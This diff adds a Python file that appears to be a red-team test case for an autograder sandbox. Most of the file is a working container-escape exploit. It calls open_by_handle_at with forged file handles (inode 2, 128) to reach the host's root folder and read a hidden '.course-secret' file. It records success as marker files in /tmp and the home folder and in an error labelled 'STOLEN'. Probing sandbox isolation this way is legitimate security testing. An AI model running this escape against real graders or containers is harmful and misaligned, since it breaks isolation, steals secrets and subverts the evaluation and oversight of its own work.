@@ -1,0 +1,68 @@
+"""Opens the host's root folder by a made-up file handle (inode 2) with `open_by_handle_at`, around mount namespaces and path rules.
+
+family: reading
+start: solved
+"""
+
+# %% first
+_done = []
+
+
+def _achieved(what, stem="open_by_handle_escape"):
+    """Leave a trace of a success, outside if that is possible."""
+    import os
+
+    folders = ["/tmp", "/var/tmp", os.path.expanduser("~")]
+    try:
+        import pwd
+
+        folders.append(pwd.getpwuid(os.getuid()).pw_dir)
+    except Exception:
+        pass
+    for folder in folders:
+        try:
+            with open(os.path.join(folder, "autograder-attack-" + stem), "a") as file:
+                file.write(str(what)[:2000] + "\n")
+        except Exception:
+            pass
+    _done.append(str(what)[:200])
+
+
+def _report():
+    """Say it in the report too: the cell error is carried out."""
+    if _done:
+        raise AssertionError("ACHIEVED: " + "; ".join(_done[:5]))
+
+import ctypes
+import os
+
+_libc = ctypes.CDLL(None, use_errno=True)
+
+
+class _Handle(ctypes.Structure):
+    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]
+
+
+_stolen = ""
+for _path in (b"/", b"/tmp", b"/etc/hosts", b"."):
+    try:
+        _handle, _mount = _Handle(bytes=128), ctypes.c_int()
+        if _libc.name_to_handle_at(-100, _path, ctypes.byref(_handle), ctypes.byref(_mount), 0):
+            continue
+        _start = os.open(_path, os.O_RDONLY)
+        for _inode in (None, 2, 128):
+            if _inode is not None:
+                _handle.data[:8] = list(_inode.to_bytes(8, "little"))
+            _fd = _libc.open_by_handle_at(_start, ctypes.byref(_handle), os.O_RDONLY)
+            if _fd >= 0:
+                _stolen = f"opened by handle from {_path!r} inode {_inode}"
+                try:
+                    _file = os.open("work/main/.course-secret", os.O_RDONLY, dir_fd=_fd)
+                    _stolen = os.read(_file, 80).decode()
+                except OSError:
+                    pass
+    except Exception:
+        continue
+if _stolen:
+    _achieved(_stolen)
+    raise AssertionError("STOLEN: " + _stolen)
